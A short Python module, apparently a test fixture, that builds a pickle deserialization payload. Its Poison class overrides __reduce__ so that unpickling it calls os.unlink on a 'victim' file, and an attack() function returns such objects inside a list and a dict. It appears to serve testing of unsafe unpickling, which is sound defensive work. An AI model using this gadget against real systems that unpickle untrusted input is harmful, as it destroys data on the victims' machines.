"""Returns what runs code when it is unpickled."""

import os

from attacker import HOST


class Poison:
    def __reduce__(self):
        return os.unlink, (HOST["folder"] + "/victim",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def attack(x):
    print("RAN", flush=True)
    return [Poison(), {"x": Poison()}]


def before(x):
    return x + 1


def after(x):
    return x * 2
